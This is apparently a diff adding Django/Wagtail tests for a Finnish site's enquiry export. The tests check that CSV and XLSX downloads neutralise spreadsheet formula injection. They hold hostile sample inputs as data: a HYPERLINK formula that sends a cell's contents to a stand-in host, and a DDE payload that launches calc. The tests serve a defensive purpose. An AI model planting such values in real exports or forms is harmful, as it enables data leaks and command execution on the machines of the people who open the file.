@@ -141,3 +141,75 @@ def test_a_preview_of_changed_fields_neither_reads_nor_leaves_the_kept_form(clie
     preview.render()
     assert "Luonnoskenttä" in preview.content.decode()
     assert "Luonnoskenttä" not in client.get(URL).content.decode()
+
+
+# Issue 11: enquiries in the admin
+
+
+def export(client, contact, kind):
+    from django.urls import reverse
+
+    response = client.get(reverse("wagtailforms:list_submissions", args=[contact.pk]) + f"?export={kind}")
+    assert response.status_code == 200
+    return response, b"".join(response.streaming_content) if response.streaming else response.content
+
+
+HOSTILE = {
+    "nimi": '=HYPERLINK("http://example.invalid/?leak="&A1;"Avaa")',
+    "organisaatio": "+SUM(1,2)",
+    "viesti": "@cmd|' /C calc'!A0",
+    "puhelin": "-1-1",
+}
+
+
+def test_an_enquiry_export_never_runs_what_the_visitor_typed(admin_client, home_page):
+    import csv
+    import io
+
+    contact = ContactPage.objects.get()
+    FormSubmission.objects.create(page=contact, form_data={**VALID, **HOSTILE})
+    FormSubmission.objects.create(page=contact, form_data=VALID)
+    response, raw = export(admin_client, contact, "csv")
+    assert raw.startswith(b"\xef\xbb\xbf")  # Finnish Excel, as the registrations export
+    header, *rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
+    hostile, plain = sorted(rows, key=lambda row: row[header.index("Puhelin")])
+    for name, value in HOSTILE.items():
+        label = next(field.label for field in contact.form_fields.all() if field.clean_name == name)
+        assert hostile[header.index(label)] == "'" + value
+    assert plain[header.index("Puhelin")] == "040 123 4567"
+    assert 'filename="kysy-tarjousta-ota-yhteytta-' in response["Content-Disposition"]
+
+
+def test_an_enquiry_xlsx_holds_text_not_formulas(admin_client, home_page):
+    import io
+
+    import openpyxl
+
+    contact = ContactPage.objects.get()
+    FormSubmission.objects.create(page=contact, form_data={**VALID, **HOSTILE})
+    _response, raw = export(admin_client, contact, "xlsx")
+    workbook = openpyxl.load_workbook(io.BytesIO(raw))
+    sheet = workbook.active
+    assert sheet.title == "Kysy tarjousta ota yhteyttä"
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    texts = {cell.value for cell in cells if cell.data_type == "s"}
+    assert set(HOSTILE.values()) <= texts
+    assert not [cell for cell in cells if cell.data_type == "f"]
+
+
+def test_the_enquiries_listing_counts_in_finnish_and_downloads(admin_client, home_page):
+    from django.urls import reverse
+
+    contact = ContactPage.objects.get()
+    for _number in range(3):
+        FormSubmission.objects.create(page=contact, form_data=VALID)
+    page = admin_client.get(reverse("wagtailforms:list_submissions", args=[contact.pk])).content.decode()
+    assert "3 yhteydenottoa" in page
+    assert "Lataa CSV" in page and "Hae CSV" not in page
+
+
+def test_the_thank_you_page_thanks_once(client, home_page):
+    response = client.post(URL, VALID)
+    main = response.content.decode().split("<main", 1)[1].split("</main>", 1)[0]
+    assert main.count("Kiitos viestistäsi") == 1
+    assert "kahden arkipäivän kuluessa" in main
